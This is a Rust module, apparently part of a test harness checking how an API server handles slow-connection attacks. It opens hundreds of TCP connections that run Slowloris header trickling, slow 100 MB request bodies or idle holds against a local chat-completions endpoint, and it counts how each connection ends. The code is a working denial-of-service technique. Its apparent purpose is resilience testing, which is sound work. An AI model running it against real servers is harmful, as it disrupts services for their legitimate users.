//! Connection attacks: hundreds of raw TCP connections that send too slowly, or nothing at all. Each
//! connection is reopened when the server closes it, so the pressure lasts the whole attack.

use std::collections::BTreeMap;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::env::{AttackEnv, KEY};

/// What a connection does once it is open.
#[derive(Debug, Clone, Copy)]
pub enum Behaviour {
    /// The request line, then one header byte a second.
    Slowloris,
    /// Complete headers declaring 100 MB, then 1 KiB of body a second.
    SlowBody,
    /// Nothing.
    Idle,
}

/// `count` connections behaving so until the duration is over; how each ended, counted.
pub async fn hold(env: &AttackEnv, count: usize, behaviour: Behaviour) -> BTreeMap<String, u64> {
    let address = env.base.trim_start_matches("http://").to_string();
    let deadline = tokio::time::Instant::now() + env.duration;
    let tasks: Vec<_> = (0..count)
        .map(|i| {
            let address = address.clone();
            tokio::spawn(async move {
                // Spread the opening over the first half second.
                tokio::time::sleep(Duration::from_micros(500_000 * i as u64 / count.max(1) as u64)).await;
                let mut answers = BTreeMap::new();
                while tokio::time::Instant::now() < deadline {
                    let ended =
                        tokio::time::timeout_at(deadline, one(&address, behaviour)).await.unwrap_or("held to the end");
                    *answers.entry(ended.to_string()).or_insert(0u64) += 1;
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                answers
            })
        })
        .collect();
    super::answers_of(tasks).await
}

/// One connection, until the server ends it; how it ended.
async fn one(address: &str, behaviour: Behaviour) -> &'static str {
    let Ok(mut tcp) = TcpStream::connect(address).await else { return "refused" };
    let opening = match behaviour {
        Behaviour::Slowloris => "POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n".to_string(),
        Behaviour::SlowBody => format!(
            "POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {KEY}\r\n\
             Content-Type: application/json\r\nContent-Length: 100000000\r\n\r\n{{\"junk\":\""
        ),
        Behaviour::Idle => String::new(),
    };
    if tcp.write_all(opening.as_bytes()).await.is_err() {
        return "closed by the server";
    }
    let (mut reader, mut writer) = tcp.into_split();
    let trickle = async move {
        let piece: &[u8] = match behaviour {
            Behaviour::Slowloris => b"X",
            Behaviour::SlowBody => &[b'x'; 1024],
            Behaviour::Idle => return std::future::pending::<()>().await,
        };
        loop {
            tokio::time::sleep(Duration::from_secs(1)).await;
            if writer.write_all(piece).await.is_err() {
                return;
            }
        }
    };
    let mut answer = [0u8; 64];
    tokio::select! {
        () = trickle => "closed by the server",
        read = reader.read(&mut answer) => match read {
            Ok(n) if n > 0 && answer.starts_with(b"HTTP/1.1 408") => "408",
            Ok(n) if n > 0 => "answered",
            _ => "closed by the server",
        },
    }
}
